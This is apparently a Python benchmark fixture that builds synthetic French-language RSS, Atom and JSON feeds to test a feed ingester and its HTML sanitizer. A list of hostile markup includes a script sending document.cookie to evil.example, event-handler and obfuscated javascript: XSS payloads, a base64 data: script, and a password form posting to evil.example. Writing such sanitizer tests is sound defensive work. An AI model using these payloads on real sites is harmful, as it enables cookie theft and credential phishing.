"""A deterministic synthetic feed corpus for benchmarks (never written to the repository).

``make_corpus(n, seed)`` returns ``n`` documents (RSS 2.0, Atom 1.0, RSS 1.0 and
JSON Feed 1.1, in roughly the proportions met in the wild) built from a seeded
``random.Random``: the same arguments give byte-identical documents on every machine.

What the documents try to look like: French-language blogs and news sites, 20-50
entries each, ~40 KB median per document; some feeds carry only a short summary per
entry, most the full article (paragraphs with inline links, images, lists, quotes,
code); a few are ISO-8859-1 encoded. Some entries carry the hostile markup a
sanitizer must remove (``<script>``, ``on*=`` handlers, ``javascript:`` links,
``<iframe>``, ``<style>``, ``<form>``), and relative URLs that must be resolved.
"""

from __future__ import annotations

import json
import random
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from xml.sax.saxutils import escape, quoteattr

FORMATS = ("rss20", "atom10", "rss10", "json11")
# Rough shares seen in real subscription lists: RSS 2.0 dominates, JSON Feed is rare.
FORMAT_WEIGHTS = (0.50, 0.30, 0.08, 0.12)
CONTENT_TYPES = {
    "rss20": "application/rss+xml; charset={charset}",
    "atom10": "application/atom+xml; charset={charset}",
    "rss10": "application/rdf+xml; charset={charset}",
    "json11": "application/feed+json; charset={charset}",
}
# Every entry date is before this, so results do not depend on the day of the run.
EPOCH = datetime(2025, 6, 1, 12, 0, tzinfo=UTC)

_VOCABULARY = (
    "le la les un une des du de et à au aux en dans pour par sur avec sans sous chez "
    "entre vers mais donc car aussi très plus moins déjà encore toujours jamais souvent "
    "été été année saison journée soirée matinée festival cinéma théâtre musée expo "
    "concert spectacle répétition création première représentation scène public "
    "équipe élève étudiant professeur chercheur médecin ingénieur artisan boulanger "
    "fromager vigneron éditeur libraire écrivain poète réalisateur comédienne danseuse "
    "mairie région département préfecture collège lycée université hôpital bibliothèque "
    "marché quartier village forêt rivière montagne côte littoral île vallée château "
    "développement logiciel réseau données sécurité mise à jour version navigateur "
    "serveur application téléphone ordinateur écran clavier réglage paramètre "
    "économie emploi salaire entreprise société coopérative association bénévole "
    "réunion conférence débat entretien enquête étude rapport résultat chiffre "
    "nouveau nouvelle grand grande petit petite premier première dernier dernière "
    "français française européen européenne régional local prochain prochaine "
    "présente annonce propose découvre réfléchit explique raconte prépare ouvre "
    "accueille reçoit célèbre inaugure développe améliore déménage publie réédite "
    "crème brûlée pâtisserie café thé goûter dîner déjeuner recette cuisine saveur "
    "forêt pêche randonnée vélo tramway gare aéroport autoroute trajet voyage "
    "œuvre cœur sœur façon garçon reçu déçu où là-bas ça naïf Noël août"
)
_WORDS = _VOCABULARY.split()
_NAMES = (
    "Camille Dupré",
    "Léa Bérenger",
    "Hélène Faure",
    "Jérôme Lefèvre",
    "François Cazenave",
    "Zoé Mégret",
    "Noémie Ollivier",
    "Benoît Gérard",
    "Maëlle Besançon",
    "Théo Leroux",
)
_TOPICS = (
    "cuisine",
    "cinéma",
    "logiciels libres",
    "emploi",
    "vie locale",
    "randonnée",
    "musique",
    "sciences",
    "politique",
    "éducation",
)
_HOSTILE = (
    '<script>document.location="https://evil.example/?c="+document.cookie</script>',
    '<img src="/images/pixel.gif" onerror="alert(document.domain)" alt="">',
    '<p><a href="javascript:alert(1)">Cliquez ici</a> pour en savoir plus.</p>',
    '<p><a href="jav&#x09;ascript:alert(2)" onclick="steal()">lien piégé</a></p>',
    '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" width="560" height="315" '
    "allowfullscreen></iframe>",
    "<style>body { display: none } .ad { position: fixed }</style>",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">Vous avez gagné !</div>',
    '<form action="https://evil.example/login"><input name="password" type="password">'
    "<button>Valider</button></form>",
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<svg onload="alert(1)"><circle r="4"/></svg>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">données</a>',
)


@dataclass(frozen=True)
class Document:
    """One generated feed, ready to be served."""

    path: str  # e.g. /feeds/0042.xml
    fmt: str  # one of FORMATS
    body: bytes
    content_type: str
    entries: int


def make_corpus(n: int, seed: int = 1) -> list[Document]:
    """``n`` documents; document ``i`` depends only on (seed, i)."""
    return [make_document(i, seed) for i in range(n)]


def make_document(index: int, seed: int = 1, fmt: str | None = None, extra: int = 0) -> Document:
    """Document number ``index``; ``fmt`` forces a format (the default draws one).

    ``extra`` adds that many newer entries on top, as the feed looks once its site
    has published again (the churn scenario of ``ingest.py --compare``); the other
    entries keep their ids, dates and content.
    """
    rng = random.Random(f"{seed}:{index}")
    if fmt is None:
        fmt = rng.choices(FORMATS, FORMAT_WEIGHTS)[0]
    feed = _Feed(rng, index)
    if extra:
        feed.publish(random.Random(f"{seed}:{index}:new"), extra)
    builder = {"rss20": _rss20, "atom10": _atom10, "rss10": _rss10, "json11": _json11}[fmt]
    charset = "iso-8859-1" if fmt == "rss20" and rng.random() < 0.06 else "utf-8"
    text = builder(feed, charset)
    # Characters ISO-8859-1 lacks (œ, ’, €) become character references, as CMSes do.
    body = text.encode(charset, "xmlcharrefreplace") if charset != "utf-8" else text.encode()
    suffix = {"rss20": "xml", "atom10": "atom", "rss10": "rdf", "json11": "json"}[fmt]
    return Document(
        path=f"/feeds/{index:05d}.{suffix}",
        fmt=fmt,
        body=body,
        content_type=CONTENT_TYPES[fmt].format(charset=charset),
        entries=len(feed.entries),
    )


# --- the content of one feed ----------------------------------------------------------


@dataclass
class _Item:
    guid: str
    title: str
    link: str
    author: str
    published: datetime
    summary: str  # HTML
    content: str  # HTML, empty for summary-only feeds
    tags: list[str]
    enclosure: tuple[str, str, int] | None


class _Feed:
    def __init__(self, rng: random.Random, index: int) -> None:
        self.rng = rng
        self.index = index
        self.site = f"https://site{index}.example"
        topic = rng.choice(_TOPICS)
        self.title = (
            f"{rng.choice(('Le blog de', 'Les carnets de', 'Chez'))} {rng.choice(_NAMES)} — {topic}"
        )
        self.description = _sentence(rng, 10, 20, markup=False)
        # Most feeds publish full articles; some only a teaser (and some long essays).
        self.style = rng.choices(("summary", "full", "long"), (0.25, 0.6, 0.15))[0]
        self.hostile = rng.random() < 0.5  # half the feeds carry some hostile markup
        self.podcast = rng.random() < 0.08
        self.with_guid = rng.random() < 0.9
        count = rng.randint(20, 50)
        start = EPOCH - timedelta(minutes=rng.randint(0, 60 * 24 * 5))
        self.entries = [
            self._item(k, start - timedelta(hours=k * rng.uniform(2, 30))) for k in range(count)
        ]
        self.updated = self.entries[0].published

    def publish(self, rng: random.Random, extra: int) -> None:
        """``extra`` new entries on top, an hour apart, with their own random stream
        (so that the older entries stay what they were)."""
        main, self.rng = self.rng, rng
        base = len(self.entries)
        new = [self._item(base + j, self.updated + timedelta(hours=j + 1)) for j in range(extra)]
        self.rng = main
        self.entries[:0] = reversed(new)
        self.updated = self.entries[0].published

    def _item(self, k: int, published: datetime) -> _Item:
        rng = self.rng
        slug = f"{published:%Y/%m}/article-{self.index}-{k}"
        blocks = {"summary": 0, "full": rng.randint(1, 3), "long": rng.randint(2, 5)}[self.style]
        content = "".join(_block(rng, self.site) for _ in range(blocks))
        if content and self.hostile and rng.random() < 0.3:
            content += rng.choice(_HOSTILE)
        summary = f"<p>{_sentence(rng, 12, 32, links=self.site)}</p>"
        if not content and self.hostile and rng.random() < 0.3:
            summary += rng.choice(_HOSTILE)
        enclosure = None
        if self.podcast:
            enclosure = (
                f"{self.site}/audio/episode-{k}.mp3",
                "audio/mpeg",
                rng.randint(10**6, 9 * 10**7),
            )
        return _Item(
            guid=f"tag:site{self.index}.example,2025:{k}",
            title=_title(rng),
            link=f"{self.site}/{slug}",
            author=rng.choice(_NAMES),
            published=published,
            summary=summary,
            content=content,
            tags=rng.sample(_TOPICS, rng.randint(0, 3)),
            enclosure=enclosure,
        )


def _sentence(
    rng: random.Random, low: int, high: int, links: str | None = None, markup: bool = True
) -> str:
    """Words with accents; with ``markup``, now and then an inline tag (and a link when
    ``links`` gives the site)."""
    words = rng.choices(_WORDS, k=rng.randint(low, high))
    if links and rng.random() < 0.4:
        i = rng.randrange(len(words))
        href = rng.choice(
            (
                f"{links}/{rng.choice(_WORDS)}",
                f"/{rng.choice(_WORDS)}-{i}",
                "https://fr.wikipedia.org/wiki/Fran%C3%A7ais",
            )
        )
        words[i] = f'<a href="{href}">{words[i]}</a>'
    if markup and rng.random() < 0.2:
        i = rng.randrange(len(words))
        tag = rng.choice(("strong", "em", "code"))
        # left unclosed now and then, as hand-written HTML is
        words[i] = f"<{tag}>{words[i]}" + (f"</{tag}>" if rng.random() < 0.9 else "")
    text = " ".join(words)
    return text[0].upper() + text[1:] + rng.choice((".", ".", ".", " !", " ?", "…"))


def _title(rng: random.Random) -> str:
    title = _sentence(rng, 4, 10, markup=False).rstrip(".!?… ")
    if rng.random() < 0.1:
        title += " & co"
    if rng.random() < 0.05:
        title = f"« {title} »"
    return title


def _paragraph(rng: random.Random, site: str) -> str:
    return (
        "<p>"
        + " ".join(_sentence(rng, 6, 18, links=site) for _ in range(rng.randint(1, 4)))
        + "</p>\n"
    )


def _block(rng: random.Random, site: str) -> str:
    kind = rng.choices(
        ("p", "img", "list", "quote", "h", "pre", "table"), (10, 2, 2, 1, 1, 0.5, 0.3)
    )[0]
    if kind == "p":
        return _paragraph(rng, site)
    if kind == "img":
        src = rng.choice(
            (f"{site}/images/{rng.randint(1, 999)}.jpg", f"/media/photo-{rng.randint(1, 99)}.png")
        )
        return (
            f'<figure><img src="{src}" alt="{_sentence(rng, 2, 5, markup=False)}" width="800" height="600" '
            f'loading="lazy"><figcaption>{_sentence(rng, 4, 10)}</figcaption></figure>\n'
            + _paragraph(rng, site)
        )
    if kind == "list":
        tag = rng.choice(("ul", "ol"))
        items = "".join(
            f"<li>{_sentence(rng, 3, 12, links=site)}</li>" for _ in range(rng.randint(2, 6))
        )
        return f"<{tag}>{items}</{tag}>\n"
    if kind == "quote":
        return f"<blockquote><p>{_sentence(rng, 10, 30)}</p></blockquote>\n"
    if kind == "h":
        return f"<h2>{_sentence(rng, 3, 7, markup=False)}</h2>\n" + _paragraph(rng, site)
    if kind == "pre":
        return '<pre><code class="language-python">for é in range(3):\n    print("&lt;é&gt;")\n</code></pre>\n'
    cells = "".join(
        f"<tr><td>{rng.choice(_WORDS)}</td><td>{rng.randint(1, 999)} €</td></tr>" for _ in range(3)
    )
    return f"<table><thead><tr><th>Poste</th><th>Coût</th></tr></thead><tbody>{cells}</tbody></table>\n"


# --- serializations ---------------------------------------------------------------------


def _item_rng(it: _Item) -> random.Random:
    """How an entry is written out (CDATA or escaped, HTML or XHTML) depends on the
    entry alone: when new entries arrive, the older ones keep their bytes."""
    return random.Random(it.guid)


def _html_field(rng: random.Random, html: str) -> str:
    """HTML inside XML text: escaped (most CMSes) or in a CDATA section."""
    if rng.random() < 0.5 and "]]>" not in html:
        return f"<![CDATA[{html}]]>"
    return escape(html)


def _rss20(feed: _Feed, charset: str) -> str:
    items = []
    for it in feed.entries:
        rng = _item_rng(it)
        parts = [
            f"<title>{escape(it.title)}</title>",
            f"<link>{escape(it.link)}</link>",
            f"<pubDate>{format_datetime(it.published)}</pubDate>",
            f"<dc:creator>{escape(it.author)}</dc:creator>",
            *(f"<category>{escape(t)}</category>" for t in it.tags),
            f"<description>{_html_field(rng, it.summary)}</description>",
        ]
        if feed.with_guid:
            parts.append(f'<guid isPermaLink="false">{escape(it.guid)}</guid>')
        if it.content:
            parts.append(f"<content:encoded>{_html_field(rng, it.content)}</content:encoded>")
        if it.enclosure:
            url, mime, length = it.enclosure
            parts.append(f'<enclosure url="{escape(url)}" type="{mime}" length="{length}"/>')
        items.append("<item>" + "".join(parts) + "</item>\n")
    return (
        f'<?xml version="1.0" encoding="{charset}"?>\n'
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:atom="http://www.w3.org/2005/Atom">\n'
        f"<channel><title>{escape(feed.title)}</title><link>{feed.site}/</link>"
        f"<description>{escape(feed.description)}</description><language>fr-FR</language>"
        f"<lastBuildDate>{format_datetime(feed.updated)}</lastBuildDate>"
        "<generator>WordPress 6.5</generator>\n" + "".join(items) + "</channel></rss>\n"
    )


def _atom10(feed: _Feed, charset: str) -> str:
    entries = []
    for it in feed.entries:
        rng = _item_rng(it)
        content = ""
        if it.content:
            if rng.random() < 0.15:  # inline XHTML: must be well-formed, so escape text only
                content = (
                    '<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">'
                    f"<p>{escape(_plain(it.content))}</p></div></content>"
                )
            else:
                content = f'<content type="html">{escape(it.content)}</content>'
        entries.append(
            "<entry>"
            f'<title type="html">{escape(escape(it.title))}</title>'
            f'<link rel="alternate" type="text/html" href="{escape(it.link)}"/>'
            f"<id>{escape(it.guid if feed.with_guid else it.link)}</id>"
            f"<published>{it.published.isoformat()}</published>"
            f"<updated>{it.published.isoformat()}</updated>"
            f"<author><name>{escape(it.author)}</name></author>"
            + "".join(f"<category term={quoteattr(t)}/>" for t in it.tags)
            + f'<summary type="html">{escape(it.summary)}</summary>'
            + content
            + (
                f'<link rel="enclosure" href="{it.enclosure[0]}" type="{it.enclosure[1]}" '
                f'length="{it.enclosure[2]}"/>'
                if it.enclosure
                else ""
            )
            + "</entry>\n"
        )
    return (
        f'<?xml version="1.0" encoding="{charset}"?>\n'
        f'<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="fr" xml:base="{feed.site}/">\n'
        f"<title>{escape(feed.title)}</title><subtitle>{escape(feed.description)}</subtitle>"
        f'<link rel="alternate" href="{feed.site}/"/><link rel="self" href="{feed.site}/feed.atom"/>'
        f"<id>{feed.site}/</id><updated>{feed.updated.isoformat()}</updated>\n"
        + "".join(entries)
        + "</feed>\n"
    )


def _rss10(feed: _Feed, charset: str) -> str:
    seq = "".join(f'<rdf:li rdf:resource="{escape(it.link)}"/>' for it in feed.entries)
    items = []
    for it in feed.entries:
        rng = _item_rng(it)
        body = it.content or it.summary
        items.append(
            f'<item rdf:about="{escape(it.link)}">'
            f"<title>{escape(it.title)}</title><link>{escape(it.link)}</link>"
            f"<description>{escape(_plain(it.summary))}</description>"
            f"<content:encoded>{_html_field(rng, body)}</content:encoded>"
            f"<dc:date>{it.published.isoformat()}</dc:date>"
            f"<dc:creator>{escape(it.author)}</dc:creator></item>\n"
        )
    return (
        f'<?xml version="1.0" encoding="{charset}"?>\n'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
        'xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/">\n'
        f'<channel rdf:about="{feed.site}/"><title>{escape(feed.title)}</title>'
        f"<link>{feed.site}/</link><description>{escape(feed.description)}</description>"
        f"<items><rdf:Seq>{seq}</rdf:Seq></items></channel>\n" + "".join(items) + "</rdf:RDF>\n"
    )


def _json11(feed: _Feed, charset: str) -> str:
    items = []
    for it in feed.entries:
        item: dict[str, object] = {
            "id": it.guid if feed.with_guid else it.link,
            "url": it.link,
            "title": it.title,
            "content_html": it.content or it.summary,
            "summary": _plain(it.summary),
            "date_published": it.published.isoformat(),
            "authors": [{"name": it.author}],
            "tags": it.tags,
        }
        if it.enclosure:
            url, mime, length = it.enclosure
            item["attachments"] = [{"url": url, "mime_type": mime, "size_in_bytes": length}]
        items.append(item)
    doc = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": feed.title,
        "home_page_url": f"{feed.site}/",
        "feed_url": f"{feed.site}/feed.json",
        "description": feed.description,
        "language": "fr-FR",
        "items": items,
    }
    return json.dumps(doc, ensure_ascii=False, indent=1) + "\n"


def _plain(html: str) -> str:
    """Crude tag stripping, for the few fields that must be plain text."""
    out, inside = [], False
    for ch in html:
        if ch == "<":
            inside = True
        elif ch == ">":
            inside = False
        elif not inside:
            out.append(ch)
    return "".join(out).strip()
